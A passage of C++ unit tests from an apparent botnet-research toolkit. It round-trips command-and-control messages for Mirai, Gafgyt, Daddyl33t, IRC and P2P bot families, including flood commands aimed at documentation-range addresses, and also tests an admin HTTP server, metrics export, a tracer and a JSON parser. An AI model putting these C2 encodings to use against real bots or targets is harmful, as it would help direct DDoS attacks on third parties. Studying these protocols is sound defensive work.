  EXPECT_EQ(attacks_of(Family::kGafgyt).size(), 3u);
  EXPECT_EQ(attacks_of(Family::kDaddyl33t).size(), 5u);
  EXPECT_TRUE(attacks_of(Family::kTsunami).empty());
  EXPECT_TRUE(attacks_of(Family::kMozi).empty());
}

TEST(Attack, KeywordMappingsInvertible) {
  for (const auto t : attacks_of(Family::kGafgyt)) {
    const auto kw = gafgyt_keyword_of(t);
    ASSERT_TRUE(kw);
    EXPECT_EQ(gafgyt_keyword_to_type(*kw), t);
  }
  for (const auto t : attacks_of(Family::kDaddyl33t)) {
    const auto kw = daddyl33t_keyword_of(t);
    ASSERT_TRUE(kw);
    EXPECT_EQ(daddyl33t_keyword_to_type(*kw), t);
  }
  for (const auto t : attacks_of(Family::kMirai)) {
    const auto vec = mirai_vector_of(t);
    ASSERT_TRUE(vec);
    EXPECT_EQ(mirai_vector_to_type(*vec), t);
  }
  EXPECT_FALSE(gafgyt_keyword_of(AttackType::kBlacknurse));
  EXPECT_FALSE(mirai_vector_to_type(99));
}

// --- Mirai binary protocol -----------------------------------------------------

TEST(Mirai, HandshakeRoundTrip) {
  const auto wire = mirai::encode_handshake("mips.bot.7");
  const auto hs = mirai::decode_handshake(wire);
  ASSERT_TRUE(hs);
  EXPECT_EQ(hs->bot_id, "mips.bot.7");
}

TEST(Mirai, HandshakeRejectsJunk) {
  EXPECT_FALSE(mirai::decode_handshake(util::from_hex("00000002 00")));
  EXPECT_FALSE(mirai::decode_handshake(util::from_hex("00000001 05 6161")));
  auto wire = mirai::encode_handshake("x");
  wire.push_back(0);  // trailing garbage
  EXPECT_FALSE(mirai::decode_handshake(wire));
}

TEST(Mirai, Keepalive) {
  EXPECT_TRUE(mirai::is_keepalive(mirai::encode_keepalive()));
  EXPECT_FALSE(mirai::is_keepalive(util::from_hex("0001")));
}

TEST(Mirai, AttackCommandRoundTrip) {
  AttackCommand cmd;
  cmd.type = AttackType::kSynFlood;
  cmd.target = {net::Ipv4{203, 0, 113, 9}, 443};
  cmd.duration_s = 120;
  const auto wire = mirai::encode_attack(cmd);
  const auto decoded = mirai::decode_attack(wire);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->type, AttackType::kSynFlood);
  EXPECT_EQ(decoded->target, cmd.target);
  EXPECT_EQ(decoded->duration_s, 120u);
  EXPECT_EQ(decoded->family, Family::kMirai);
  EXPECT_EQ(decoded->raw, wire);
}

TEST(Mirai, AttackWithoutPortOption) {
  AttackCommand cmd;
  cmd.type = AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{1, 2, 3, 4}, 0};
  const auto decoded = mirai::decode_attack(mirai::encode_attack(cmd));
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->target.port, 0);
}

TEST(Mirai, EncodeRejectsForeignTypes) {
  AttackCommand cmd;
  cmd.type = AttackType::kBlacknurse;  // daddyl33t-only
  EXPECT_THROW((void)mirai::encode_attack(cmd), std::invalid_argument);
}

TEST(Mirai, DecodeRejectsMalformedFrames) {
  EXPECT_FALSE(mirai::decode_attack(util::from_hex("0000")));       // keepalive
  EXPECT_FALSE(mirai::decode_attack(util::from_hex("0001 00")));    // short body
  EXPECT_FALSE(mirai::decode_attack(util::from_hex("00ff 00")));    // truncated
  AttackCommand cmd;
  cmd.type = AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{1, 2, 3, 4}, 80};
  auto wire = mirai::encode_attack(cmd);
  wire[6] = 99;  // unknown vector id
  EXPECT_FALSE(mirai::decode_attack(wire));
}

// --- Gafgyt text protocol -----------------------------------------------------

TEST(Gafgyt, HelloRoundTrip) {
  const auto hello = gafgyt::encode_hello("MIPS");
  const auto arch = gafgyt::decode_hello(hello);
  ASSERT_TRUE(arch);
  EXPECT_EQ(*arch, "MIPS");
  EXPECT_FALSE(gafgyt::decode_hello("HELLO MIPS"));
}

TEST(Gafgyt, PingPong) {
  EXPECT_TRUE(gafgyt::is_ping("PING\n"));
  EXPECT_TRUE(gafgyt::is_pong("PONG\n"));
  EXPECT_FALSE(gafgyt::is_ping("PING yes"));
}

TEST(Gafgyt, AttackRoundTrip) {
  AttackCommand cmd;
  cmd.type = AttackType::kStd;
  cmd.target = {net::Ipv4{198, 51, 100, 7}, 9999};
  cmd.duration_s = 60;
  const auto line = gafgyt::encode_attack(cmd);
  EXPECT_EQ(line, "!* STD 198.51.100.7 9999 60\n");
  const auto decoded = gafgyt::decode_attack(line);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->type, AttackType::kStd);
  EXPECT_EQ(decoded->target, cmd.target);
  EXPECT_EQ(decoded->family, Family::kGafgyt);
}

TEST(Gafgyt, DecodeRejectsMalformed) {
  EXPECT_FALSE(gafgyt::decode_attack("!* UDP 1.2.3.4 80"));          // missing time
  EXPECT_FALSE(gafgyt::decode_attack("!* HYDRASYN 1.2.3.4 80 10"));  // foreign verb
  EXPECT_FALSE(gafgyt::decode_attack("UDP 1.2.3.4 80 10"));          // no prefix
  EXPECT_FALSE(gafgyt::decode_attack("!* UDP 1.2.3.999 80 10"));     // bad ip
  EXPECT_FALSE(gafgyt::decode_attack("!* UDP 1.2.3.4 99999 10"));    // bad port
}

// --- Daddyl33t text protocol ---------------------------------------------------

TEST(Daddyl33t, LoginRoundTrip) {
  const auto line = daddyl33t::encode_login("bot42");
  const auto id = daddyl33t::decode_login(line);
  ASSERT_TRUE(id);
  EXPECT_EQ(*id, "bot42");
  EXPECT_FALSE(daddyl33t::decode_login("LOGIN bot42"));
}

TEST(Daddyl33t, AttackRoundTripAllVerbs) {
  for (const auto type : attacks_of(Family::kDaddyl33t)) {
    AttackCommand cmd;
    cmd.type = type;
    cmd.target = {net::Ipv4{192, 0, 2, 55},
                  type == AttackType::kBlacknurse ? net::Port{0} : net::Port{4567}};
    cmd.duration_s = 45;
    const auto decoded = daddyl33t::decode_attack(daddyl33t::encode_attack(cmd));
    ASSERT_TRUE(decoded) << to_string(type);
    EXPECT_EQ(decoded->type, type);
    EXPECT_EQ(decoded->target, cmd.target);
    EXPECT_EQ(decoded->family, Family::kDaddyl33t);
  }
}

TEST(Daddyl33t, GrammarIsDistinctFromGafgyt) {
  // The same UDP attack encodes differently per family profile (§2.5a).
  AttackCommand cmd;
  cmd.type = AttackType::kUdpFlood;
  cmd.target = {net::Ipv4{1, 2, 3, 4}, 80};
  EXPECT_NE(daddyl33t::encode_attack(cmd), gafgyt::encode_attack(cmd));
  EXPECT_FALSE(gafgyt::decode_attack(daddyl33t::encode_attack(cmd)));
  EXPECT_FALSE(daddyl33t::decode_attack(gafgyt::encode_attack(cmd)));
}

// --- IRC (Tsunami) -------------------------------------------------------------

TEST(Irc, ParseFullMessage) {
  const auto msg = irc::parse(":server.example 001 bot :Welcome\r\n");
  ASSERT_TRUE(msg);
  EXPECT_EQ(msg->prefix, "server.example");
  EXPECT_EQ(msg->command, "001");
  ASSERT_EQ(msg->params.size(), 1u);
  EXPECT_EQ(msg->params[0], "bot");
  EXPECT_EQ(msg->trailing, "Welcome");
}

TEST(Irc, SerializeParseRoundTrip) {
  for (const auto& msg :
       {irc::nick("bot1"), irc::user("bot1"), irc::join("#tsunami"),
        irc::privmsg("#tsunami", "hello world"), irc::ping("tok"), irc::pong("tok")}) {
    const auto parsed = irc::parse(msg.serialize());
    ASSERT_TRUE(parsed) << msg.serialize();
    EXPECT_EQ(parsed->command, msg.command);
    EXPECT_EQ(parsed->params, msg.params);
    EXPECT_EQ(parsed->trailing, msg.trailing);
  }
}

TEST(Irc, ParseRejectsEmpty) {
  EXPECT_FALSE(irc::parse(""));
  EXPECT_FALSE(irc::parse("\r\n"));
  EXPECT_FALSE(irc::parse(":prefixonly"));
}

// --- P2P (Mozi/Hajime) ----------------------------------------------------------

TEST(P2p, PingRoundTrip) {
  const p2p::DhtPing ping{std::string(20, 'N'), "ab"};
  const auto wire = p2p::encode_ping(ping);
  const auto decoded = p2p::decode_ping(wire);
  ASSERT_TRUE(decoded);
  EXPECT_EQ(decoded->node_id, ping.node_id);
  EXPECT_EQ(decoded->txn, "ab");
  EXPECT_TRUE(p2p::looks_like_dht(wire));
}

TEST(P2p, PongLooksLikeDht) {
  const auto wire = p2p::encode_pong({std::string(20, 'M'), "xy"});
  EXPECT_TRUE(p2p::looks_like_dht(wire));
  EXPECT_FALSE(p2p::decode_ping(wire));  // pong is not a ping
}

TEST(P2p, ValidationAndJunk) {
  EXPECT_THROW((void)p2p::encode_ping({"short", "ab"}), std::invalid_argument);
  EXPECT_THROW((void)p2p::encode_ping({std::string(20, 'N'), "abc"}),
               std::invalid_argument);
  EXPECT_FALSE(p2p::looks_like_dht(util::to_bytes("GET / HTTP/1.1")));
  EXPECT_FALSE(p2p::decode_ping(util::to_bytes("d1:ad2:id20:short")));
}
