// malnet::serve admin plane (DESIGN.md §15): the pure HTTP request parser
// (unit + structure-aware fuzz — no admin input may crash or hang the
// process), the Prometheus text exposition (escaping, deterministic
// ordering, a golden document), and the AdminServer end-to-end over real
// sockets: routing, 404/400 paths, bounded heads, one-response-per-
// connection, and the scrape client.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <string>
#include <thread>
#include <vector>

#include "obs/expo.hpp"
#include "obs/metrics.hpp"
#include "obs/window.hpp"
#include "serve/admin.hpp"
#include "testkit/testkit.hpp"
#include "util/socket.hpp"

using namespace malnet;
using namespace malnet::serve;

namespace {

util::BytesView view(const std::string& s) {
  return util::BytesView{reinterpret_cast<const std::uint8_t*>(s.data()),
                         s.size()};
}

std::optional<std::string> parse(const std::string& head) {
  return parse_admin_request(view(head));
}

}  // namespace

// --- request parser ----------------------------------------------------------

TEST(AdminParser, AcceptsWellFormedGet) {
  EXPECT_EQ(parse("GET /metrics HTTP/1.0\r\n\r\n"), "/metrics");
  EXPECT_EQ(parse("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"), "/healthz");
  // The query string is stripped, not part of the admin surface.
  EXPECT_EQ(parse("GET /metrics?window=10s HTTP/1.0\r\n\r\n"), "/metrics");
  // Only the request line needs to have arrived.
  EXPECT_EQ(parse("GET /slowz HTTP/1.0\r\nHos"), "/slowz");
}

TEST(AdminParser, RejectsEverythingElse) {
  EXPECT_FALSE(parse(""));
  EXPECT_FALSE(parse("GET /metrics HTTP/1.0"));  // no CRLF yet: incomplete
  EXPECT_FALSE(parse("POST /metrics HTTP/1.0\r\n\r\n"));
  EXPECT_FALSE(parse("GET metrics HTTP/1.0\r\n\r\n"));   // no leading slash
  EXPECT_FALSE(parse("GET /metrics\r\n\r\n"));           // no version
  EXPECT_FALSE(parse("GET /metrics SPDY/3\r\n\r\n"));
  EXPECT_FALSE(parse("GET  HTTP/1.0\r\n\r\n"));          // empty target
  EXPECT_FALSE(parse(std::string("GET /me\0trics HTTP/1.0\r\n\r\n", 27)));
  EXPECT_FALSE(parse("GET /m\xC3\xA9trics HTTP/1.0\r\n\r\n"));  // non-ASCII
}

TEST(AdminParser, FuzzNeverCrashes) {
  // Structure-aware mutations of valid heads plus pure noise: the parser
  // must return cleanly on every input (ASan/UBSan catch the rest).
  const std::vector<std::string> corpus = {
      "GET /metrics HTTP/1.0\r\nHost: localhost\r\n\r\n",
      "GET /healthz HTTP/1.1\r\n\r\n",
      "GET /statusz?verbose=1 HTTP/1.0\r\nAccept: */*\r\n\r\n",
  };
  const testkit::Mutator mutator;
  testkit::CheckConfig cfg;
  cfg.cases = 5'000;
  cfg.name = "admin parser no-crash";
  const auto inputs =
      testkit::apply(
          [&corpus](std::uint64_t pick, int which, util::Bytes noise) {
            if (which == 0) return noise;
            const auto& base = corpus[pick % corpus.size()];
            return util::Bytes(base.begin(), base.end());
          },
          testkit::ints<std::uint64_t>(0, 1'000'000), testkit::ints<int>(0, 7),
          testkit::byte_strings(0, 256))
          .map([&mutator](util::Bytes base) {
            util::Rng mrng(util::fnv1a64(util::to_hex(base)), 23);
            return mutator.mutate(base, mrng);
          });
  const auto r = testkit::check(
      inputs,
      [](const util::Bytes& head) {
        const auto path = parse_admin_request(util::BytesView{head});
        // A parsed path is always a clean absolute target.
        return !path || (!path->empty() && (*path)[0] == '/');
      },
      cfg);
  EXPECT_TRUE(r.ok) << r.summary();
}

// --- Prometheus exposition ---------------------------------------------------

TEST(Exposition, NameSanitisation) {
  EXPECT_EQ(obs::prometheus_name("serve.requests"), "serve_requests");
  EXPECT_EQ(obs::prometheus_name("a-b c@d"), "a_b_c_d");
  EXPECT_EQ(obs::prometheus_name("9lives"), "_9lives");
  EXPECT_EQ(obs::prometheus_name(""), "_");
}

TEST(Exposition, LabelValueEscaping) {
  EXPECT_EQ(obs::prometheus_label_value("plain"), "plain");
  EXPECT_EQ(obs::prometheus_label_value("a\"b\\c\nd"), "a\\\"b\\\\c\\nd");
}

TEST(Exposition, GoldenDocument) {
  obs::MetricsSnapshot snap;
  snap.counters["serve.requests"] = 42;
  snap.gauges["serve.connections_active"] = 3;
  obs::HistogramSnapshot h;
  h.bounds = {10, 100};
  h.counts = {5, 4, 1};  // 1 overflow
  h.sum = 500;
  h.count = 10;
  snap.histograms["serve.request_latency_us"] = h;

  const auto text = obs::render_prometheus(snap);
  const std::string golden =
      "# TYPE malnet_serve_requests counter\n"
      "malnet_serve_requests 42\n"
      "# TYPE malnet_serve_connections_active gauge\n"
      "malnet_serve_connections_active 3\n"
      "# TYPE malnet_serve_request_latency_us histogram\n"
      "malnet_serve_request_latency_us_bucket{le=\"10\"} 5\n"
      "malnet_serve_request_latency_us_bucket{le=\"100\"} 9\n"
      "malnet_serve_request_latency_us_bucket{le=\"+Inf\"} 10\n"
      "malnet_serve_request_latency_us_sum 500\n"
      "malnet_serve_request_latency_us_count 10\n";
  // The golden prefix pins ordering, cumulative buckets and +Inf; the
  // estimated-quantile lines follow it.
  ASSERT_EQ(text.substr(0, golden.size()), golden);
  EXPECT_NE(text.find("malnet_serve_request_latency_us_q{q=\"0.5\"}"),
            std::string::npos);
  EXPECT_NE(text.find("malnet_serve_request_latency_us_q{q=\"0.99\"}"),
            std::string::npos);
  // Deterministic: same snapshot, same bytes.
  EXPECT_EQ(text, obs::render_prometheus(snap));
}

TEST(Exposition, WindowedRatesAndQuantiles) {
  obs::SnapshotRing ring;
  obs::MetricsSnapshot a, b;
  a.counters["serve.requests"] = 100;
  b.counters["serve.requests"] = 300;
  obs::HistogramSnapshot ha;
  ha.bounds = {100};
  ha.counts = {10, 0};
  ha.count = 10;
  ha.sum = 500;
  a.histograms["serve.request_latency_us"] = ha;
  auto hb = ha;
  hb.counts = {30, 0};
  hb.count = 30;
  hb.sum = 1'500;
  b.histograms["serve.request_latency_us"] = hb;
  ring.push(0, a);
  ring.push(10'000'000, b);
  const auto w = ring.window(10'000'000);
  ASSERT_TRUE(w.has_value());
  const auto text = obs::render_prometheus(b, {{"10s", *w}});
  // 200 requests over 10s -> 20/s.
  EXPECT_NE(text.find("malnet_serve_requests_rate{window=\"10s\"} 20"),
            std::string::npos);
  EXPECT_NE(
      text.find("malnet_serve_request_latency_us_count_rate{window=\"10s\"} 2"),
      std::string::npos);
  EXPECT_NE(text.find("malnet_serve_request_latency_us_q{q=\"0.99\",window="
                      "\"10s\"}"),
            std::string::npos);
}

// --- AdminServer end-to-end --------------------------------------------------

namespace {

/// Raw HTTP exchange against the admin port: sends `request` verbatim,
/// returns everything the server wrote before closing.
std::string raw_exchange(std::uint16_t port, const std::string& request) {
  auto fd = util::tcp_connect("127.0.0.1", port, 2'000);
  if (!fd.valid()) return {};
  if (!util::send_all(fd.get(), view(request), 2'000)) return {};
  std::string got;
  for (;;) {
    std::uint8_t buf[4096];
    const int n = util::recv_some(fd.get(), buf, sizeof(buf), 2'000);
    if (n <= 0) break;  // 0 = server closed (the contract under test)
    got.append(reinterpret_cast<const char*>(buf), static_cast<std::size_t>(n));
  }
  return got;
}

}  // namespace

TEST(AdminServer, RoutesAndScrapeClient) {
  obs::Registry reg;
  AdminServer admin({}, reg);
  admin.handle("/metrics", [] {
    AdminResponse r;
    r.body = "# TYPE x counter\nx 1\n";
    return r;
  });
  admin.handle("/boom", []() -> AdminResponse {
    throw std::runtime_error("kaboom");
  });
  admin.start();
  ASSERT_TRUE(admin.running());
  ASSERT_NE(admin.port(), 0);

  const auto body = admin_get("127.0.0.1", admin.port(), "/metrics");
  ASSERT_TRUE(body.has_value());
  EXPECT_EQ(*body, "# TYPE x counter\nx 1\n");
  // 404 and 500 surface as nullopt through the scrape client...
  EXPECT_FALSE(admin_get("127.0.0.1", admin.port(), "/nope").has_value());
  EXPECT_FALSE(admin_get("127.0.0.1", admin.port(), "/boom").has_value());
  // ...and as status lines on the wire.
  EXPECT_EQ(raw_exchange(admin.port(), "GET /nope HTTP/1.0\r\n\r\n")
                .substr(0, 17),
            "HTTP/1.0 404 Not ");
  EXPECT_EQ(raw_exchange(admin.port(), "GET /boom HTTP/1.0\r\n\r\n")
                .substr(0, 12),
            "HTTP/1.0 500");

  const auto snap = reg.snapshot();
  EXPECT_EQ(snap.counters.at("admin.requests"), 5u);
  EXPECT_EQ(snap.counters.at("admin.http_errors"), 4u);  // 2x404 + 2x500
  EXPECT_GE(snap.counters.at("admin.connections"), 5u);
  admin.stop();
  EXPECT_FALSE(admin.running());
}

TEST(AdminServer, MalformedAndOversizedHeadsGet400AndAClose) {
  obs::Registry reg;
  AdminConfig cfg;
  cfg.max_request_bytes = 128;
  AdminServer admin(cfg, reg);
  admin.handle("/ok", [] { return AdminResponse{}; });
  admin.start();

  const auto bad = raw_exchange(admin.port(), "DELETE /ok HTTP/1.0\r\n\r\n");
  EXPECT_EQ(bad.substr(0, 12), "HTTP/1.0 400");
  EXPECT_NE(bad.find("Connection: close"), std::string::npos);

  const auto oversized = raw_exchange(
      admin.port(), "GET /" + std::string(1024, 'a') + " HTTP/1.0\r\n\r\n");
  EXPECT_EQ(oversized.substr(0, 12), "HTTP/1.0 400");

  // One response per connection: a pipelined second request is never
  // answered (the server closes after the first response).
  const auto doubled = raw_exchange(
      admin.port(),
      "GET /ok HTTP/1.0\r\n\r\nGET /ok HTTP/1.0\r\n\r\n");
  EXPECT_EQ(doubled.substr(0, 12), "HTTP/1.0 200");
  EXPECT_EQ(doubled.find("HTTP/1.0 200", 12), std::string::npos);
  admin.stop();
}

TEST(AdminServer, TickRunsPeriodically) {
  obs::Registry reg;
  AdminServer admin({}, reg);
  std::atomic<int> ticks{0};
  admin.set_tick([&ticks] { ticks.fetch_add(1); }, 10);
  admin.start();
  for (int i = 0; i < 100 && ticks.load() < 3; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  }
  admin.stop();
  EXPECT_GE(ticks.load(), 3);
}

TEST(AdminServer, ConcurrentScrapesAllSucceed) {
  obs::Registry reg;
  AdminServer admin({}, reg);
  admin.handle("/metrics", [] {
    AdminResponse r;
    r.body = std::string(64 * 1024, 'm');  // forces multiple writes
    return r;
  });
  admin.start();
  std::atomic<int> good{0};
  std::vector<std::thread> scrapers;
  scrapers.reserve(8);
  for (int i = 0; i < 8; ++i) {
    scrapers.emplace_back([&] {
      const auto body = admin_get("127.0.0.1", admin.port(), "/metrics");
      if (body && body->size() == 64 * 1024) good.fetch_add(1);
    });
  }
  for (auto& t : scrapers) t.join();
  admin.stop();
  EXPECT_EQ(good.load(), 8);
}
