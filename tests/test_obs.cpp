// malnet::obs — metrics registry, sim-time tracer, per-phase profiler and
// the minimal JSON parser, plus the end-to-end determinism contract: a
// sharded study's merged metrics snapshot is a pure function of
// (config, shards), byte-identical for any worker count, and its headline
// counters equal the StudyResults fields they shadow.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "obs/json.hpp"
#include "obs/obs.hpp"
#include "obs/slowlog.hpp"
#include "obs/window.hpp"
#include "sim/scheduler.hpp"

using namespace malnet;
using namespace malnet::obs;

// --- metrics -----------------------------------------------------------------

TEST(Metrics, CounterAndGaugeSemantics) {
  Counter c;
  EXPECT_EQ(c.value(), 0u);
  c.inc();
  c.inc(41);
  EXPECT_EQ(c.value(), 42u);

  Gauge g;
  g.set(-7);
  EXPECT_EQ(g.value(), -7);
  g.add(10);
  EXPECT_EQ(g.value(), 3);
}

TEST(Metrics, HistogramBucketsAreInclusiveUpperBounds) {
  Histogram h({0, 10, 100});
  ASSERT_EQ(h.bucket_count(), 4u);  // three bounds + overflow
  h.record(-5);   // <= 0
  h.record(0);    // <= 0
  h.record(1);    // <= 10
  h.record(10);   // <= 10
  h.record(11);   // <= 100
  h.record(999);  // overflow
  EXPECT_EQ(h.bucket(0), 2u);
  EXPECT_EQ(h.bucket(1), 2u);
  EXPECT_EQ(h.bucket(2), 1u);
  EXPECT_EQ(h.bucket(3), 1u);
  EXPECT_EQ(h.count(), 6u);
  EXPECT_EQ(h.sum(), -5 + 0 + 1 + 10 + 11 + 999);
}

TEST(Metrics, RegistryReturnsStableInstruments) {
  Registry reg;
  Counter& a = reg.counter("x");
  Counter& b = reg.counter("x");
  EXPECT_EQ(&a, &b);
  a.inc(3);
  EXPECT_EQ(reg.counter("x").value(), 3u);

  // First registration's bounds win; a second registration with different
  // bounds hands back the existing histogram.
  Histogram& h1 = reg.histogram("h", {1, 2});
  Histogram& h2 = reg.histogram("h", {100, 200, 300});
  EXPECT_EQ(&h1, &h2);
  EXPECT_EQ(h2.bounds(), (std::vector<std::int64_t>{1, 2}));
}

TEST(Metrics, SnapshotCapturesAndRendersDeterministically) {
  Registry reg;
  reg.counter("b").inc(2);
  reg.counter("a").inc(1);
  reg.gauge("g").set(-4);
  reg.histogram("h", {10}).record(7);

  const MetricsSnapshot snap = reg.snapshot();
  EXPECT_EQ(snap.counters.at("a"), 1u);
  EXPECT_EQ(snap.counters.at("b"), 2u);
  EXPECT_EQ(snap.gauges.at("g"), -4);
  EXPECT_EQ(snap.histograms.at("h").count, 1u);

  const std::string json = snap.to_json();
  EXPECT_EQ(json, reg.snapshot().to_json()) << "rendering must be stable";
  // Keys render sorted, so "a" precedes "b" regardless of creation order.
  EXPECT_LT(json.find("\"a\""), json.find("\"b\""));

  const auto doc = json::parse(json);
  ASSERT_TRUE(doc.has_value());
  ASSERT_NE(doc->at_path("counters.a"), nullptr);
  EXPECT_EQ(doc->at_path("counters.a")->number, 1.0);
  EXPECT_EQ(doc->at_path("gauges.g")->number, -4.0);
  ASSERT_NE(doc->at_path("histograms.h"), nullptr);
  EXPECT_TRUE(doc->at_path("histograms.h.bounds")->is_array());
}

namespace {

MetricsSnapshot make_snapshot(std::uint64_t a, std::uint64_t shared,
                              std::int64_t hist_value) {
  Registry reg;
  reg.counter("only_" + std::to_string(a)).inc(a);
  reg.counter("shared").inc(shared);
  reg.gauge("level").add(static_cast<std::int64_t>(shared));
  reg.histogram("dist", {0, 10, 100}).record(hist_value);
  return reg.snapshot();
}

}  // namespace

TEST(Metrics, MergeIsOrderIndependentAndAssociative) {
  const MetricsSnapshot s1 = make_snapshot(1, 10, 5);
  const MetricsSnapshot s2 = make_snapshot(2, 20, 50);
  const MetricsSnapshot s3 = make_snapshot(3, 30, 500);

  MetricsSnapshot abc = s1;
  abc.merge(s2);
  abc.merge(s3);

  MetricsSnapshot cba = s3;
  cba.merge(s2);
  cba.merge(s1);

  MetricsSnapshot a_bc = s1;
  {
    MetricsSnapshot bc = s2;
    bc.merge(s3);
    a_bc.merge(bc);
  }

  EXPECT_EQ(abc.to_json(), cba.to_json());
  EXPECT_EQ(abc.to_json(), a_bc.to_json());
  EXPECT_EQ(abc.counters.at("shared"), 60u);
  EXPECT_EQ(abc.histograms.at("dist").count, 3u);
  EXPECT_EQ(abc.histograms.at("dist").sum, 555);
}

TEST(Metrics, MergeRejectsMismatchedHistogramBounds) {
  Registry r1, r2;
  r1.histogram("h", {1, 2}).record(1);
  r2.histogram("h", {5}).record(1);
  MetricsSnapshot a = r1.snapshot();
  const MetricsSnapshot b = r2.snapshot();
  EXPECT_THROW(a.merge(b), std::invalid_argument);
}

// --- tracer ------------------------------------------------------------------

TEST(Trace, DisabledTracerBuffersNothing) {
  Tracer t;
  t.instant("x", "cat");
  t.complete("y", "cat", 0);
  EXPECT_TRUE(t.events().empty());
  EXPECT_EQ(t.dropped(), 0u);
}

TEST(Trace, RecordsAgainstTheSimClock) {
  Tracer t;
  std::int64_t sim_now = 1'000;
  t.set_enabled(true);
  t.set_sim_clock([&sim_now]() { return sim_now; });

  t.instant("boot", "pipeline", "\"k\":1");
  sim_now = 5'000;
  t.complete("run", "sandbox", 1'000);

  ASSERT_EQ(t.events().size(), 2u);
  EXPECT_EQ(t.events()[0].phase, 'i');
  EXPECT_EQ(t.events()[0].sim_us, 1'000);
  EXPECT_EQ(t.events()[1].phase, 'X');
  EXPECT_EQ(t.events()[1].sim_us, 1'000);
  EXPECT_EQ(t.events()[1].dur_us, 4'000);
}

TEST(Trace, CapacityBoundsTheBuffer) {
  Tracer t;
  t.set_enabled(true);
  t.set_capacity(2);
  for (int i = 0; i < 5; ++i) t.instant("e", "cat");
  EXPECT_EQ(t.events().size(), 2u);
  EXPECT_EQ(t.dropped(), 3u);
}

TEST(Trace, ChromeExportRoundTripsThroughTheJsonParser) {
  Tracer t;
  t.set_enabled(true);
  std::int64_t sim_now = 42;
  t.set_sim_clock([&sim_now]() { return sim_now; });
  t.instant("quo\"ted\n", "pipeline", "\"c2\":\"60.1.2.3:23\"");
  sim_now = 99;
  t.complete("span", "sandbox", 42);

  std::ostringstream os;
  write_chrome_trace(os, t.events());
  const auto doc = json::parse(os.str());
  ASSERT_TRUE(doc.has_value()) << os.str();
  const json::Value* events = doc->find("traceEvents");
  ASSERT_NE(events, nullptr);
  ASSERT_TRUE(events->is_array());
  ASSERT_EQ(events->array.size(), 2u);

  const json::Value& instant = events->array[0];
  EXPECT_EQ(instant.find("ph")->str, "i");
  EXPECT_EQ(instant.find("ts")->number, 42.0);
  ASSERT_NE(instant.find("args"), nullptr);
  EXPECT_EQ(instant.find("args")->find("c2")->str, "60.1.2.3:23");

  const json::Value& span = events->array[1];
  EXPECT_EQ(span.find("ph")->str, "X");
  EXPECT_EQ(span.find("dur")->number, 57.0);
  EXPECT_EQ(span.find("cat")->str, "sandbox");

  std::ostringstream timeline;
  write_timeline(timeline, t.events());
  EXPECT_NE(timeline.str().find("span"), std::string::npos);
}

// --- json parser -------------------------------------------------------------

TEST(Json, ParsesScalarsArraysAndObjects) {
  const auto doc = json::parse(R"({"n":-1.5e2,"s":"a\"b","t":true,"z":null,
                                   "arr":[1,2,3],"o":{"k":1}})");
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->find("n")->number, -150.0);
  EXPECT_EQ(doc->find("s")->str, "a\"b");
  EXPECT_TRUE(doc->find("t")->boolean);
  EXPECT_EQ(doc->find("z")->type, json::Value::Type::kNull);
  EXPECT_EQ(doc->find("arr")->array.size(), 3u);
  EXPECT_EQ(doc->at_path("o.k")->number, 1.0);
}

TEST(Json, RejectsMalformedDocuments) {
  EXPECT_FALSE(json::parse("{").has_value());
  EXPECT_FALSE(json::parse("{\"a\":}").has_value());
  EXPECT_FALSE(json::parse("[1,2,]").has_value());
  EXPECT_FALSE(json::parse("{} trailing").has_value());
  EXPECT_FALSE(json::parse("\"unterminated").has_value());
}

TEST(Json, DottedPathPrefersFullMemberNames) {
  // Metric names contain dots ("net.packets_sent"); at_path must try the
  // whole remainder as one member before splitting at the first dot.
  const auto doc = json::parse(
      R"({"counters":{"net.packets_sent":7,"net":{"packets_sent":1}}})");
  ASSERT_TRUE(doc.has_value());
  ASSERT_NE(doc->at_path("counters.net.packets_sent"), nullptr);
  EXPECT_EQ(doc->at_path("counters.net.packets_sent")->number, 7.0);
  EXPECT_EQ(doc->at_path("counters.missing"), nullptr);
}

// --- profiler ----------------------------------------------------------------

TEST(Profile, ScopedTimerAccumulates) {
  ProfileSnapshot p;
  {
    ScopedTimer t(p[Phase::kFinalize]);
  }
  {
    ScopedTimer t(p[Phase::kFinalize]);
  }
  EXPECT_EQ(p[Phase::kFinalize].entries, 2u);
  EXPECT_EQ(p.total_sim_events(), 0u);
}

TEST(Profile, MergeAddsAndTableRenders) {
  ProfileSnapshot a, b;
  a[Phase::kSandbox] = {100, 10, 5, 1};
  b[Phase::kSandbox] = {50, 4, 2, 1};
  b[Phase::kCampaign] = {7, 3, 1, 1};
  a.merge(b);
  EXPECT_EQ(a[Phase::kSandbox].wall_ns, 150u);
  EXPECT_EQ(a[Phase::kSandbox].sim_events, 14u);
  EXPECT_EQ(a[Phase::kSandbox].ops, 7u);
  EXPECT_EQ(a.total_sim_events(), 17u);

  const std::string table = a.render_table();
  EXPECT_NE(table.find("sandbox"), std::string::npos);
  EXPECT_NE(table.find("campaign"), std::string::npos);
  // Idle phases are not rendered.
  EXPECT_EQ(table.find("live-watch"), std::string::npos);

  const auto doc = json::parse(a.to_json());
  ASSERT_TRUE(doc.has_value());
  EXPECT_EQ(doc->at_path("phases.sandbox.sim_events")->number, 14.0);
}

// --- scheduler phase tags ----------------------------------------------------

TEST(PhaseTags, EventsInheritAndRestoreTheAmbientTag) {
  sim::EventScheduler sched;
  std::uint64_t chained_tag = 99;
  {
    sim::ScopedPhaseTag tag(sched, static_cast<sim::PhaseTag>(Phase::kProbe));
    sched.after(sim::Duration::seconds(1), [&sched, &chained_tag]() {
      // Firing restored kProbe as ambient, so this chained event inherits it.
      sched.after(sim::Duration::seconds(1),
                  [&sched, &chained_tag]() { chained_tag = sched.phase_tag(); });
    });
  }
  ASSERT_EQ(sched.phase_tag(), 0) << "scope must restore the previous tag";
  sched.after(sim::Duration::seconds(1), []() {});  // untagged
  sched.run();
  EXPECT_EQ(chained_tag, static_cast<std::uint64_t>(Phase::kProbe));
